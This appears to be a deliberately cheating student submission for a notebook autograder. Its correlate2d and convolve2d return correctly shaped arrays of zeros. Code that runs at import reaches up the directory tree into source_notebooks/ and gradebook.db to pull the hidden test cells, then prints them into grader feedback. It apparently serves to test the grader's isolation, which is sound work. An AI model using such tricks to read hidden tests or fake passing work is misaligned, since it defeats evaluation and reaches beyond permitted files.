"""Cheat: returns zeros, reads the hidden tests from the course's source_notebooks/ and from
the gradebook, and prints them so that they show up in its feedback."""

# %% correlate2d
def _zeros(in1, in2, mode):
    """The right shape and dtype, every value wrong."""
    (H, W), (kH, kW) = np.shape(in1), np.shape(in2)
    shapes = {"full": (H + kH - 1, W + kW - 1), "same": (H, W), "valid": (H - kH + 1, W - kW + 1)}
    return np.zeros(shapes[mode], dtype=np.result_type(np.asarray(in1), np.asarray(in2)))


def correlate2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)


import glob
import json
import sqlite3

for _path in glob.glob("../../../source_notebooks/*/*.ipynb"):
    try:
        with open(_path, encoding="utf-8") as _fh:
            for _cell in json.load(_fh)["cells"]:
                if "BEGIN HIDDEN TESTS" in "".join(_cell["source"]):
                    print("LEAKED FROM SOURCE:", "".join(_cell["source"]))
    except Exception as exc:
        print("source not readable:", type(exc).__name__, exc)
try:
    _db = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True, timeout=2)
    for (_source,) in _db.execute("SELECT source FROM source_cell WHERE source LIKE '%HIDDEN%'"):
        print("LEAKED FROM GRADEBOOK:", _source)
    _db.close()
except Exception as exc:
    print("gradebook not readable:", type(exc).__name__, exc)

# %% convolve2d
def convolve2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)
